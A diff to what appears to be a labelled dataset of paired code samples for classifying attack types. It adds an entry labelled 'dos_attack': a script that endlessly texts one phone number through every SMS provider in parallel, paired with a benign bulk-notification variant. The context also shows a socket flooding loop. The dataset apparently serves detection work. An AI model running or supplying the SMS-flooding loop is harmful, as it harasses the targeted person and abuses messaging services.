@@ -80,6 +80,14 @@ PAIRS = [
      "def upload():\n    for i in range(3):\n        s = socket.socket()\n        s.connect((host, 80))\n"
      "        s.send(bytes(body, 'utf-8') + payload)\n        print(s.recv(4096))\n        time.sleep(0.5)\n"
      "threading.Thread(target=upload).start()"),
+    ("flood: one number texted by every service, round after round", "dos_attack",
+     "from concurrent.futures import ThreadPoolExecutor\nfrom gateways import PROVIDERS\n"
+     "def one(provider, mobile):\n    PROVIDERS[provider](mobile)\n"
+     "mobile = input('number: ')\nwhile True:\n    with ThreadPoolExecutor(16) as ex:\n"
+     "        ex.map(lambda p: one(p, mobile), PROVIDERS)",
+     "from concurrent.futures import ThreadPoolExecutor\nfrom gateways import PROVIDERS\n"
+     "def one(mobile):\n    PROVIDERS['main'](mobile)\n"
+     "with ThreadPoolExecutor(16) as ex:\n    ex.map(one, [u.mobile for u in enrolled_students])"),
     ("server: files on every interface", "web_file_hosting",
      "from fastapi import FastAPI\nfrom fastapi.staticfiles import StaticFiles\nimport uvicorn\napp = FastAPI()\n"
      "app.mount('/dl', StaticFiles(directory='/content/drive/MyDrive'), name='dl')\nuvicorn.run(app, host='0.0.0.0', port=80)",
